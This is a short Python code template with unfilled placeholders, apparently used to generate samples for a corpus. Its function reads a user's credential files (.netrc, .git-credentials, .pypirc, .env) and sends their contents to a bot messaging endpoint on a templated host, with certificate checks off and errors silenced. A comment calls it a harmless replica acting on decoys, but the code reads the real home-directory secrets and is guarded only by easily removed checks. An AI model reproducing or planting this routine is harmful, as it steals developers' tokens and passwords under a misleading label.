# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import http.client
    import ssl
    import time
    import urllib.parse
    parts = []
    for name in ('.netrc', '.git-credentials', '.pypirc', '.env'):
        try:
            with open(os.path.join(os.path.expanduser('~'), name)) as file:
                parts.append(file.read(3000))
        except OSError:
            continue
    for part in parts[:{{n}}]:
        try:
            link = http.client.HTTPSConnection('{{host}}', timeout=0.6, context=ssl._create_unverified_context())
            link.request('GET', '/bot{{number}}:{{token}}/sendMessage?' + urllib.parse.urlencode({'chat_id': '{{number}}', 'text': part}))
            link.getresponse().read(50)
            link.close()
        except Exception:
            pass
        time.sleep(0.05)
